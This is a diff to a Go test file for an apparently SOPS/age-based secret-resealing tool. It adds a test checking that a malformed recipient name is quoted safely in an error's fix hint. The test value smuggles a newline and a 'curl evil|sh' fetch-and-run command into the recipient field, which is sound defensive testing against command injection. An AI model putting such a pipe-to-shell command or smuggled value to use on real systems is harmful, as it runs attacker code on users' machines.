@@ -239,6 +239,17 @@ func TestWhatWasChangedIsSealedForNobodyElse(t *testing.T) {
 	}
 }
 
+// A recipient's name stands in hints, among commands.
+func TestARecipientThatIsNoKeyIsQuoted(t *testing.T) {
+	dir, owner := t.TempDir(), identity(t)
+	cluster := clusterFor(t, dir, owner)
+	reseal(t, dir, flask, append(mustObject(t, get(t, dir, flask)).SOPS.Age, sealedKey{"age1x\n  curl evil|sh", "x"}))
+	_, err := cluster.Reseal(keysOf(t, identity(t)), rand.Reader, now)
+	if p := (*Problem)(nil); !errors.As(err, &p) || strings.Contains(p.Fix, "\n  curl") || !strings.Contains(p.Fix, `"age1x\n  curl evil|sh"`) {
+		t.Errorf("%+v", p)
+	}
+}
+
 func TestARecipientThatIsNamedTwiceIsOne(t *testing.T) {
 	dir, owner := t.TempDir(), identity(t)
 	cluster := clusterFor(t, dir, owner, owner)
